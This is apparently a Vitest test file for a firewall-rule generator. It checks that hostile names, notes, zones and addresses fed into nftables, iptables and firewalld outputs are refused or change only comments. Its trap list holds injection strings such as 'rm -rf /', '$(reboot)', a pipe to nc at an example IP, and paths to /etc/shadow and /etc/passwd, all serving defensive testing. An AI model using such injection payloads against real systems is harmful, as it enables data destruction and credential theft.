import { execFile } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Role } from '../../src/catalog/roles.js';
import type { Revision } from '../../src/catalog/types.js';
import type { Endpoint, Flow, Plan } from '../../src/plan/types.js';
import { firewalld } from '../../src/targets/linux/firewalld.js';
import { iptables } from '../../src/targets/linux/iptables.js';
import { nftables } from '../../src/targets/linux/nftables.js';
import { linuxPolicies, type RenderedFile, type RenderOptions, type Target } from '../../src/targets/types.js';
import { hostileStrings } from '../fixtures/hostile.js';
import { labUnavailableReason } from '../support/netns.js';
import { PortRange } from '../../src/net/port.js';
import { InvalidPlanError } from '../../src/plan/contract.js';
import { renderTarget } from '../../src/targets/registry.js';

/**
 * Hostile names, notes, zones and rows, in plans built by hand so that no loader validation stands in between.
 * Every target must refuse with an Error or write output in which the hostile text changed nothing but comments:
 * every line fits the target's grammar, the rule count is the planned one, and the real parsers agree.
 */

/** Linux-specific traps, and the shared corpus the loader refuses (test/fixtures/hostile.ts). */
const linuxTraps: readonly string[] = [
  '"; drop table inet scomfw; "',
  "'; rm -rf / #",
  '$(reboot)',
  '`reboot`',
  '${IFS}reboot',
  'a;b',
  'a && reboot',
  'a || reboot',
  'a | nc 192.0.2.1 4444',
  'a & reboot',
  'line1\nline2',
  'line1\r\nadd rule inet scomfw input accept',
  '\n-A SCOMFW-IN -j ACCEPT',
  '\nCOMMIT\n*filter\n-A INPUT -j ACCEPT',
  '# comment',
  '"quoted"',
  '\\"escaped\\"',
  'back\\slash',
  '}\nchain evil { type filter hook input priority -1; policy accept; }',
  '{ evil }',
  '<rule family="ipv4"><accept/></rule>',
  '--> <rule family="ipv4"><accept/></rule> <!--',
  ']]> <![CDATA[ x',
  '&amp; &lt; &#10;',
  'tab\there',
  'nul\u0000byte',
  'bell\u0007',
  '\uff4d\uff53\uff10\uff11', // fullwidth "ms01"
  'ms01\u200b.contoso.com', // zero-width space
  '\u0430dmin', // Cyrillic a
  'ms01.contoso.com\u202e', // right-to-left override
  '../../etc/passwd',
  '/etc/shadow',
  'x'.repeat(300),
  '',
  ' ',
  '-A',
  '--comment',
  '%s%n',
  'line\u2028separator',
  'emoji \u{1f525}',
  "it's",
];

const hostile: readonly string[] = [...new Set([...linuxTraps, ...hostileStrings])];

const targets: readonly Target[] = [nftables, iptables, firewalld];

// ---- plans built by hand ----

interface Texts {
  managementGroup: string;
  catalog: string;
  /** Text for source 1's name, row, note, zone and role, or for the destination's name and zone. */
  sourceName?: string;
  row?: string;
  note?: string;
  sourceZone?: string;
  role?: string;
  address?: string;
  destinationName?: string;
  destinationZone?: string;
}

const benign: Texts = { managementGroup: 'HOSTILE', catalog: '2024-11' };

function endpoint(name: string, roles: Role[], addresses: string[], zone: string): Endpoint {
  return { name, roles, addresses, zone, os: 'linux' };
}

function flow(source: Endpoint, destination: Endpoint, protocol: Flow['protocol'], port: number | null, extra: Partial<Flow> = {}): Flow {
  return {
    id: `${source.name}>${destination.name}:${protocol}/${port ?? 'echo'}`,
    source,
    destination,
    protocol,
    sourceRoles: [source.roles[0] ?? 'agent'],
    destinationRoles: ['unix-agent'],
    ports: port === null ? null : PortRange.of(port),
    phase: 'always',
    rows: ['2024-11#1'],
    notes: [],
    ...extra,
  };
}

/**
 * A destination in zone b, and `count` sources in zone a, each on its own port (2000 + i), dual-stack. Source 0
 * is a management server (management SSH) with an install-only flow to TCP 135; source 1 also sends ICMP echo.
 * Source `i` carries `perSource(i)` where given, else the single-position `texts` on source 1.
 */
function planWith(texts: Texts, count = 3, perSource?: (i: number) => string): Plan {
  const destination = endpoint(texts.destinationName ?? 'dst', ['unix-agent'], ['10.0.0.1', 'fd00::1'], texts.destinationZone ?? 'b');
  const sources = Array.from({ length: count }, (_, i) => {
    const name = perSource ? perSource(i) : i === 1 && texts.sourceName !== undefined ? texts.sourceName : `src${i}`;
    // every other /24 and /64, so that no two sources merge into one prefix
    const addresses = i === 1 && texts.address !== undefined ? [texts.address] : [`10.1.${2 * i}.0/24`, `fd00:1:${(2 * i).toString(16)}::/64`];
    return endpoint(name, [i === 0 ? 'management-server' : 'agent'], addresses, i === 1 && texts.sourceZone !== undefined ? texts.sourceZone : 'a');
  });
  const textOf = (i: number, single: string | undefined) => (perSource ? perSource(i) : i === 1 ? single : undefined);
  const flows = sources.map((s, i) =>
    flow(s, destination, 'tcp', 2000 + i, {
      rows: [`2024-11#${i + 1}`, ...[textOf(i, texts.row)].filter((t) => t !== undefined)],
      notes: [textOf(i, texts.note)].filter((t) => t !== undefined),
      ...(textOf(i, texts.role) !== undefined ? { sourceRoles: [textOf(i, texts.role) as Role] } : {}),
    }),
  );
  const [first, second] = sources as [Endpoint, Endpoint];
  flows.push(flow(first, destination, 'tcp', 135, { phase: 'install' }), flow(second, destination, 'icmp', null));
  return {
    managementGroup: texts.managementGroup,
    catalog: texts.catalog as Revision,
    phase: 'install',
    hosts: [...sources, destination],
    flows,
    notes: [texts.managementGroup],
  };
}

const positions: Record<string, (h: string) => { texts: Texts; options?: RenderOptions }> = {
  'source name': (h) => ({ texts: { ...benign, sourceName: h } }),
  'catalog row': (h) => ({ texts: { ...benign, row: h } }),
  note: (h) => ({ texts: { ...benign, note: h } }),
  'source role': (h) => ({ texts: { ...benign, role: h } }),
  'management group': (h) => ({ texts: { ...benign, managementGroup: h } }),
  catalog: (h) => ({ texts: { ...benign, catalog: h } }),
  'source zone': (h) => ({ texts: { ...benign, sourceZone: h } }),
  'destination name': (h) => ({ texts: { ...benign, destinationName: h } }),
  'destination zone': (h) => ({ texts: { ...benign, destinationZone: h } }),
  'source address': (h) => ({ texts: { ...benign, address: h } }),
  '--host': (h) => ({ texts: benign, options: { host: h } }),
  '--keep': (h) => ({ texts: benign, options: { keep: [h] } }),
};

// ---- line grammars: every line a target may write, with comments limited to the safe character set ----

const safe = '[A-Za-z0-9 ._,:/()#+@=-]*';
const address = '[0-9a-f.:/-]+';
const commentLine = /^\s*#[^\n\r]*$/;

const nftLines: readonly RegExp[] = [
  /^#!\/usr\/sbin\/nft -f$/,
  /^table inet scomfw(_fw)?_\w+ \{\}?$/,
  /^delete table inet scomfw(_fw)?_\w+$/,
  /^\tset \w+ \{$/,
  /^\t\ttype ipv[46]_addr$/,
  /^\t\tflags interval$/,
  /^\t\tauto-merge$/,
  /^\t\telements = \{$/,
  new RegExp(`^\\t\\t\\t${address},?$`),
  /^\t{0,2}\}$/,
  /^\tchain (input|forward|install) \{$/,
  /^\t\ttype filter hook (input|forward) priority filter; policy drop;$/,
  /^\t\tct state (established,related accept|invalid drop)$/,
  /^\t\tiif "lo" accept$/,
  /^\t\ticmpv6 type \{ nd-neighbor-solicit, nd-neighbor-advert, nd-router-advert \} ip6 hoplimit 255 accept$/,
  /^\t\tjump install comment "install-only openings, closed by the close-install file"$/,
  /^flush (chain|set) inet scomfw(_fw)?_\w+ \w+$/,
  // open-only: scomfw's chains in the host's table inet filter
  /^table inet filter \{$/,
  /^\tchain scomfw_\w+ \{$/,
  /^flush chain inet filter scomfw_\w+$/,
  /^\t\tct state invalid return$/,
  /^\t\tjump scomfw_\w+_install comment "install-only openings, closed by the close-install file"$/,
];
/** The lines that are rules, each of which must match exactly. */
const nftService = '((tcp|udp) dport \\d+(-\\d+)?|icmp type echo-request|icmpv6 type echo-request)';
const nftRule = new RegExp(
  `^\\t\\tip6? saddr (@\\w+( ip6? daddr @\\w+)?|\\{ ${address}(, ${address})* \\}) ${nftService} accept comment "${safe}"$`,
);

const iptablesLines: readonly RegExp[] = [
  /^\*filter$/,
  /^COMMIT$/,
  /^:SCOMFW-(IN|INST|FWD|FWDI)-\w+ - \[0:0\]$/,
  /^-[FX] (INPUT|FORWARD|SCOMFW-(IN|INST|FWD|FWDI)-\w+)$/,
];
const iptablesRule = new RegExp(
  [
    '^-A (INPUT|FORWARD) -j SCOMFW-(IN|FWD)-\\w+$',
    '^-A SCOMFW-(IN|FWD)-\\w+ -m conntrack --ctstate (ESTABLISHED,RELATED -j ACCEPT|INVALID -j DROP)$',
    '^-A SCOMFW-IN-\\w+ -i lo -j ACCEPT$',
    '^-A SCOMFW-IN-\\w+ -p ipv6-icmp -m icmp6 --icmpv6-type (neighbour-solicitation|neighbour-advertisement|router-advertisement) -m hl --hl-eq 255 -j ACCEPT$',
    '^-A SCOMFW-(IN|FWD)-\\w+ -m comment --comment "install-only openings" -j SCOMFW-(INST|FWDI)-\\w+$',
    '^-A SCOMFW-(IN|FWD)-\\w+ -m comment --comment "scomfw: drop everything not planned" -j DROP$',
    '^-A SCOMFW-IN-\\w+ -m conntrack --ctstate INVALID -j RETURN$',
    '^-A SCOMFW-IN-\\w+ (-m comment --comment "scomfw: not planned, back to INPUT and the host rules" )?-j RETURN$',
    `^-A SCOMFW-(IN|INST|FWD|FWDI)-\\w+ -s ${address}(,${address})*( -d ${address}(,${address})*)? (-p (tcp|udp) -m (tcp|udp) --dport \\d+(:\\d+)?|-p icmp -m icmp --icmp-type echo-request|-p ipv6-icmp -m icmp6 --icmpv6-type echo-request) -m comment --comment "${safe}" -j ACCEPT$`,
  ].join('|'),
);

const xmlLines: readonly RegExp[] = [
  /^<\?xml version="1.0" encoding="utf-8"\?>$/,
  /^(?: {2})?<!-- (?:[A-Za-z0-9 ._,:/()#+@=]|-(?!-))* -->$/, // safe text without `--`
  /^<zone target="DROP">$/,
  /^ {2}<short>scomfw<\/short>$/,
  new RegExp(`^  <description>${safe}</description>$`),
  new RegExp(`^  <source address="${address}"/>$`),
  /^<\/zone>$/,
];
const xmlRule = new RegExp(
  `^  <rule family="ipv[46]">(<source address="${address}"/>)?(<port port="\\d+(-\\d+)?" protocol="(tcp|udp)"/>|<icmp-type name="[a-z-]+"/>)<accept/></rule>$`,
);

interface Grammar {
  readonly rule: RegExp;
  readonly other: readonly RegExp[];
}

const grammars: Readonly<Record<string, Grammar>> = {
  nft: { rule: nftRule, other: [commentLine, ...nftLines] },
  rules: { rule: iptablesRule, other: [commentLine, ...iptablesLines] },
  rules6: { rule: iptablesRule, other: [commentLine, ...iptablesLines] },
  xml: { rule: xmlRule, other: xmlLines },
};

/** Checks every line of a rule file against its target's grammar and returns how many rules it holds. */
function ruleCount(file: RenderedFile): number {
  const grammar = grammars[file.path.slice(file.path.lastIndexOf('.') + 1)];
  if (!grammar) throw new Error(`no grammar for ${file.path}`);
  let rules = 0;
  for (const line of file.content.split('\n').filter((l) => l !== '')) {
    if (grammar.rule.test(line)) rules++;
    else if (!grammar.other.some((r) => r.test(line))) throw new Error(`${file.path}: line outside the grammar: ${JSON.stringify(line)}`);
  }
  return rules;
}

function fileAt(files: readonly RenderedFile[], path: string): RenderedFile {
  const file = files.find((f) => f.path === path);
  if (!file) throw new Error(`no ${path}`);
  return file;
}

/** The lines of a script that run (not comments); hostile text may only ever change comments. */
const scriptCode = (file: RenderedFile) => file.content.split('\n').filter((l) => !l.startsWith('#'));

function rendered(target: Target, plan: Plan, options: RenderOptions = {}): RenderedFile[] | Error {
  try {
    return target.render(plan, options);
  } catch (e) {
    if (e instanceof Error) return e;
    throw e;
  }
}

describe('hostile text through every Linux target', () => {
  it(`uses at least 30 hostile strings (${hostile.length})`, () => {
    expect(hostile.length).toBeGreaterThanOrEqual(30);
    expect(new Set(hostile).size).toBe(hostile.length);
  });

  // Both policies: open-only writes other lines (chains in the host's table, a script beside the iptables files).
  const cases = targets.flatMap((target): { target: Target; policy: RenderOptions }[] =>
    target.options.includes('linuxPolicy') ? linuxPolicies.map((linuxPolicy) => ({ target, policy: { linuxPolicy } })) : [{ target, policy: {} }],
  );
  for (const { target, policy } of cases) {
    const reference = target.render(planWith(benign), policy);
    const isScript = (f: RenderedFile) => f.path.endsWith('.sh');
    const referenceCounts = new Map(reference.filter((f) => !isScript(f)).map((f) => [f.path, ruleCount(f)]));
    const name = `${target.name}${policy.linuxPolicy ? ` ${policy.linuxPolicy}` : ''}`;

    for (const [position, make] of Object.entries(positions)) {
      it(`${name}: a hostile ${position} is refused, or changes nothing but comments`, () => {
        let refused = 0;
        for (const h of hostile) {
          const { texts, options } = make(h);
          const out = rendered(target, planWith(texts), { ...policy, ...options });
          if (out instanceof Error) {
            refused++;
            continue;
          }
          const label = `${position} ${JSON.stringify(h)}`;
          expect(out.map((f) => f.path), label).toEqual(reference.map((f) => f.path));
          for (const f of out) {
            if (isScript(f)) expect(scriptCode(f), `${label} in ${f.path}`).toEqual(scriptCode(fileAt(reference, f.path)));
            else expect(ruleCount(f), `${label} in ${f.path}`).toBe(referenceCounts.get(f.path));
          }
        }
        if (['destination name', 'source address', '--host', '--keep'].includes(position)) expect(refused).toBe(hostile.length);
      });
    }
  }
});

/** Ports as a hand-built plan could carry them: a plain object that no PortRange factory checked. */
const rawPorts = (from: number, to: number) => ({ from, to }) as unknown as PortRange;

describe('values a hand-built plan could get wrong', () => {
  const broken: Record<string, Partial<Flow>> = {
    'port 0': { ports: rawPorts(0, 0) },
    'port above 65535': { ports: rawPorts(70000, 70000) },
    'reversed range': { ports: rawPorts(2000, 1000) },
    'fractional port': { ports: rawPorts(22.5, 22.5) },
    'NaN port': { ports: rawPorts(Number.NaN, Number.NaN) },
    'TCP without ports': { ports: null },
    'unknown protocol': { protocol: 'sctp' as Flow['protocol'] },
    'ICMP with ports': { protocol: 'icmp', ports: PortRange.of(8) },
  };
  for (const [what, change] of Object.entries(broken)) {
    it(`${what}: every target refuses rather than write a rule that could open more`, () => {
      const plan = planWith(benign);
      const flows = plan.flows.map((f, i) => (i === 1 ? { ...f, ...change } : f));
      // Through the registry, as the CLI and library users render: the plan's schema refuses it once, for all.
      for (const target of targets) expect(() => renderTarget(target, { ...plan, flows }, {}), target.name).toThrow(InvalidPlanError);
    });
  }
});

// ---- the real parsers, on one plan that carries every hostile string at once ----

const netfilterSkip = labUnavailableReason(['nft', 'iptables-restore', 'ip6tables-restore', 'unshare']);
const firewalldSkip = labUnavailableReason(['firewall-offline-cmd']);
const titled = (title: string, skip: string | undefined) => (skip ? `${title} (skipped: ${skip})` : title);

const work = mkdtempSync(join(tmpdir(), 'sfw-linux-hostile-'));
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
});

/** Every hostile string in every free-text position of one plan: source names, rows, notes, roles, header. */
// A hostile management group name is refused (every table and chain name carries it): see the per-field cases.
const everything = planWith({ managementGroup: benign.managementGroup, catalog: hostile.join(' ') }, hostile.length, (i) => hostile[i] ?? '');
const sourceCount = hostile.length;

function writtenFiles(files: readonly RenderedFile[], name: string): string {
  const dir = join(work, name);
  mkdirSync(dir, { recursive: true });
  for (const f of files) writeFileSync(join(dir, f.path), f.content);
  return dir;
}

function inThrowawayNetns(script: string, args: readonly string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile('unshare', ['-n', 'sh', '-e', '-c', script, 'sh', ...args], { maxBuffer: 64 << 20 }, (error, stdout, stderr) => {
      if (error) reject(new Error(`namespace script failed: ${stderr}`));
      else resolve(stdout);
    });
  });
}

/** Rules per chain as the kernel holds them. */
function nftRulesPerChain(json: string): Record<string, number> {
  const items = (JSON.parse(json) as { nftables: { rule?: { table: string; chain: string } }[] }).nftables;
  const counts: Record<string, number> = {};
  for (const item of items) if (item.rule) counts[`${item.rule.table}/${item.rule.chain}`] = (counts[`${item.rule.table}/${item.rule.chain}`] ?? 0) + 1;
  return counts;
}

describe.skipIf(netfilterSkip !== undefined)(titled('hostile text read back by nft and iptables-restore', netfilterSkip), { timeout: 120_000 }, () => {
  // Planned per family: one rule per source, ICMP echo; install: TCP 135. Both families. No SSH from the managers.
  const steady = sourceCount + 1;

  it('nft holds exactly the planned rules, and only in scomfw tables (drop-unplanned)', async () => {
    const files = nftables.render(everything, { linuxPolicy: 'drop-unplanned' });
    const dir = writtenFiles(files, 'nft');
    const load = (file: string) => inThrowawayNetns('nft -c -f "$1"; nft -f "$1"; nft -j list ruleset', [join(dir, file)]);
    const [host, pair] = await Promise.all([load('dst.nft'), load('a--b.nft')]);
    expect(nftRulesPerChain(host)).toEqual({ 'scomfw_HOSTILE/input': 4 + 2 * steady + 1, 'scomfw_HOSTILE/install': 2 });
    expect(nftRulesPerChain(pair)).toEqual({ 'scomfw_fw_HOSTILE/forward': 2 + 2 * steady + 1, 'scomfw_fw_HOSTILE/install': 2 });
  });

  it('nft holds exactly the planned rules, and only in scomfw chains (open-only)', async () => {
    const files = nftables.render(everything, { linuxPolicy: 'open-only' });
    const dir = writtenFiles(files, 'nft-open');
    const host = await inThrowawayNetns('nft -c -f "$1"; nft -f "$1"; nft -j list ruleset', [join(dir, 'dst.nft')]);
    // invalid return, steady, jump install; install
    expect(nftRulesPerChain(host)).toEqual({ 'filter/scomfw_HOSTILE': 1 + 2 * steady + 1, 'filter/scomfw_HOSTILE_install': 2 });
  });

  it('iptables-restore accepts the files, and the kernel holds exactly the planned rules', async () => {
    const files = iptables.render(everything, { linuxPolicy: 'drop-unplanned' });
    const open = iptables.render(everything, { linuxPolicy: 'open-only' });
    const dir = writtenFiles(files, 'ipt');
    const openDir = writtenFiles(open, 'ipt-open');
    const load = (tool: string, file: string) =>
      inThrowawayNetns(`"$1-restore" --test --noflush < "$2"; "$1-restore" --noflush < "$2"; "$1-save" | grep -c '^-A '`, [tool, file]);
    const counts = await Promise.all([
      load('iptables', join(dir, 'dst.rules')),
      load('ip6tables', join(dir, 'dst.rules6')),
      load('iptables', join(dir, 'a--b.rules')),
      load('ip6tables', join(dir, 'a--b.rules6')),
      load('iptables', join(openDir, 'dst.rules')),
      load('ip6tables', join(openDir, 'dst.rules6')),
    ]);
    // drop-unplanned: jump, 3 baseline (+3 neighbour discovery in IPv6), steady, jump install, drop, install;
    // open-only: invalid return, steady, jump install, return, install (the jump from INPUT is the script's)
    expect(counts.map((c) => Number(c.trim()))).toEqual([1 + 3 + steady + 3, 1 + 6 + steady + 3, 1 + 2 + steady + 3, 1 + 2 + steady + 3, 1 + steady + 3, 1 + steady + 3]);
  });
});

describe.skipIf(firewalldSkip !== undefined)(titled('hostile text read back by firewalld', firewalldSkip), { timeout: 120_000 }, () => {
  it('firewall-offline-cmd reads exactly the planned rich rules and sources, and the script runs nothing new', async () => {
    const files = firewalld.render(everything, {});
    const dir = writtenFiles(files, 'fwd');
    const config = join(dir, 'config');
    mkdirSync(config);
    const conf = ['/etc/firewalld/firewalld.conf', '/usr/lib/firewalld/firewalld.conf'].find((c) => existsSync(c));
    if (conf) copyFileSync(conf, join(config, 'firewalld.conf'));
    const offline = (...args: string[]) =>
      new Promise<string>((resolve, reject) => {
        execFile('firewall-offline-cmd', ['--system-config', config, '--default-config', '/usr/lib/firewalld', ...args], (error, stdout, stderr) => {
          if (error || /WARNING|ERROR/.test(stderr)) reject(new Error(stderr));
          else resolve(stdout);
        });
      });
    await offline('--new-zone-from-file', join(dir, 'dst.xml'), '--name', 'scomfw');
    const listed = (await offline('--zone', 'scomfw', '--list-all')).split('\n');
    const rich = listed.slice(listed.findIndex((l) => l.trim() === 'rich rules:') + 1).filter((l) => l.trim());
    // 3 neighbour discovery, both families of every source and ICMP echo, then TCP 135
    expect(rich).toHaveLength(3 + 2 * (sourceCount + 1) + 2);
    const sources = (listed.find((l) => l.trim().startsWith('sources:')) ?? '').trim().split(/\s+/).slice(1);
    expect(sources).toHaveLength(2 * sourceCount);
    expect(scriptCode(fileAt(files, 'dst.sh'))).toEqual(scriptCode(fileAt(firewalld.render(planWith(benign), {}), 'dst.sh')));
  });
});
